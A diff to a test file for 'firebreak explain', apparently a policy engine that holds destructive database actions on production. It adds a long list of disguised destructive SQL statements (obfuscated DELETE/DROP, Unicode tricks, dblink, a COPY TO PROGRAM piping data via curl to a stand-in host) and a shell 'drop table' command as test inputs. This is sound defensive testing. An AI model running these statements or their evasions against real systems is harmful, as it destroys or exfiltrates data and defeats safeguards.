@@ -1,6 +1,6 @@
 /** `firebreak explain`: the verdict engine as a filter, as docs/guides/policies.md describes it. */
 import { spawn } from 'node:child_process';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
@@ -214,7 +214,100 @@ describe('lines', () => {
   });
 });
 
+/** Statements that destroy, each in another dress. */
+const DRESSES = [
+  'delete from orders',
+  'DELETE FROM ONLY public.orders WHERE id IN (SELECT id FROM orders)',
+  '/* SELECT 1 */ dElEtE/**/from"orders"',
+  '-- a read\nTRUNCATE orders, payments CASCADE',
+  'WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone',
+  'EXPLAIN (ANALYZE, COSTS off) DELETE FROM orders',
+  'EXPLAIN ANALYZE WITH x AS (UPDATE orders SET total = 0 RETURNING 1) SELECT * FROM x',
+  'PREPARE p AS DELETE FROM orders; EXECUTE p',
+  'DECLARE c CURSOR WITH HOLD FOR SELECT delete_all()',
+  'COPY (DELETE FROM orders RETURNING *) TO STDOUT',
+  "COPY orders FROM PROGRAM 'true'",
+  "COPY orders TO PROGRAM 'curl -T - http://elsewhere'",
+  "DO $$ BEGIN EXECUTE 'drop ' || 'table orders'; END $$",
+  "DO LANGUAGE plpgsql E'BEGIN DELETE FROM orders; END'",
+  'CALL wipe()',
+  'SELECT wipe()',
+  'SELECT "wi\u0070e"()',
+  'SELECT U&"\\0077ipe"()',
+  "SELECT query_to_xml('delete from orders', true, true, '')",
+  "SELECT dblink_exec('host=elsewhere', 'drop table orders')",
+  "SELECT lo_unlink(1), pg_terminate_backend(1), setval('orders_id_seq', 1)",
+  "SELECT set_config('session_replication_role', 'replica', false); DELETE FROM orders",
+  'MERGE INTO orders o USING payments p ON o.id = p.id WHEN MATCHED THEN DELETE',
+  'INSERT INTO orders SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET total = wipe()',
+  'CREATE TABLE copy AS SELECT wipe()',
+  'CREATE RULE r AS ON INSERT TO orders DO INSTEAD DELETE FROM orders',
+  'CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$',
+  'CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION wipe()',
+  'ALTER TABLE orders DROP COLUMN total',
+  'ALTER TABLE orders ALTER total TYPE int USING 0',
+  'DROP OWNED BY app CASCADE',
+  'DROP DATABASE orders WITH (FORCE)',
+  'REASSIGN OWNED BY app TO other',
+  'ALTER SYSTEM SET archive_mode = off',
+  'SET ROLE postgres; DROP TABLE orders',
+  'VACUUM FULL orders',
+  'BEGIN; DELETE FROM orders; COMMIT',
+  'SELECT 1; DROP TABLE orders',
+  'REFRESH MATERIALIZED VIEW totals',
+  'DELETE FROM orders LIMIT 5',
+  'DELETE orders FROM orders JOIN payments WHERE true',
+  'drop table orders purge',
+  'ＤＲＯＰ TABLE orders',
+];
+
+/** Reads as people and programs write them, one of them in the SQL of another product. */
+const READS = [
+  'SELECT count(*) FROM singer',
+  'SELECT name ,  country FROM singer ORDER BY age DESC LIMIT 1',
+  'SELECT T1.a, avg(T2.b) FROM x AS T1 JOIN y AS T2 ON T1.id = T2.id GROUP BY T1.a HAVING count(*) >= 2',
+  'SELECT a FROM x EXCEPT SELECT a FROM y INTERSECT SELECT a FROM z',
+  'SELECT DISTINCT T1.a FROM x AS T1 JOIN y AS T2 WHERE b < (SELECT avg(b) FROM y)',
+  "WITH s AS (SELECT lower(name) AS n FROM x WHERE name LIKE '%delete from%') SELECT n AS delete FROM s",
+];
+
 describe('verdicts', () => {
+  test('destructive statements are held in any dress, and say why', async () => {
+    const { answers } = await explain(lines(...DRESSES.map((text) => sql(text))), PRODUCTION);
+    const passed = DRESSES.filter((_, index) => answers[index]?.verdict !== 'hold');
+    expect(passed).toEqual([]);
+    for (const { reason } of answers) expect(reason).toMatch(/production is protected/);
+  });
+
+  const harmless = process.env['FIREBREAK_HARMLESS_SQL'];
+  test('reads are allowed, and every line of the file that FIREBREAK_HARMLESS_SQL names', async () => {
+    const own = lines(...READS.map((text) => sql(text)));
+    const input = harmless === undefined ? own : own + readFileSync(harmless, 'utf8');
+    const { status, answers } = await explain(input, PRODUCTION);
+    expect(status).toBe(0);
+    const texts = input.split('\n');
+    expect(texts.filter((text, index) => text !== '' && answers[index]?.verdict !== 'allow')).toEqual([]);
+  });
+
+  test('what is allowed after it was counted, or copied, says so', async () => {
+    const counted = await explain(lines(sql('update orders set total = 1 where id = 7')), PRODUCTION);
+    expect(counted.answers).toMatchObject([
+      {
+        verdict: 'allow',
+        obligations: ['measure'],
+        reason: expect.stringMatching(/counted first, then allowed within the limits$/),
+      },
+    ]);
+    const copied = await explain(lines(sql('delete from orders where id = 7')), ['--environment', 'staging']);
+    expect(copied.answers).toMatchObject([
+      {
+        verdict: 'allow',
+        obligations: ['snapshot'],
+        reason: expect.stringMatching(/a copy is kept first, else it is held$/),
+      },
+    ]);
+  });
+
   test('kinds that are not understood yet are held on a protected environment with evidence unknown, and say why', async () => {
     const actions = [
       { kind: 'shell', text: 'psql $PROD -c "drop table users"', cwd: '/repo' },
